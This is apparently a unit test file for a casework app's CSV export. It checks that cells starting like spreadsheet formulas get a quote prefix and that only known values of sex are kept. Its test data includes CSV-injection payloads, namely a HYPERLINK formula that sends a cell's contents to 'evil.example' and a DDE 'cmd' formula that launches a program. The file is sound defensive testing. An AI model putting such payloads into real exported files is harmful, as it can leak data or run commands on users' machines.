"""SEC-26: no cell of a CSV casework writes can be read as a formula by a spreadsheet."""

import csv
import io

import pytest

from cme_casework.domain.referral_entries import known_sex
from cme_casework.entrypoints.spreadsheet import csv_text, safe_cell

pytestmark = pytest.mark.unit


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"])
def test_a_cell_that_starts_like_a_formula_is_prefixed_with_a_quote(cell):
    assert safe_cell(cell) == "'" + cell
    [_header, [back]] = list(csv.reader(io.StringIO(csv_text(["sex"], [[cell]]), newline="")))
    assert back == "'" + cell  # the CSV still holds the whole value, shown as text


@pytest.mark.parametrize("cell", ["westminster", "2026-10-01", "12_weeks_or_less", "female", "", "a=b", 7, None])
def test_ordinary_cells_are_left_as_they_are(cell):
    assert safe_cell(cell) == ("" if cell is None else str(cell))


def test_the_header_is_neutralised_too_and_quotes_inside_a_cell_stay_quoted():
    text = csv_text(["=a", "b"], [['=x,"y"', "1"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["'=a", "b"], ["'=x,\"y\"", "1"]]


@pytest.mark.parametrize(("sent", "kept"), [("female", "female"), ("male", "male"), ("other", "other"),
                                            ("unknown", "unknown"), ("=HYPERLINK(\"x\")", "unknown"),
                                            ("Female", "unknown"), ("", "unknown")])
def test_only_a_value_of_sex_is_taken_from_an_accepted_referral(sent, kept):
    assert known_sex(sent) == kept
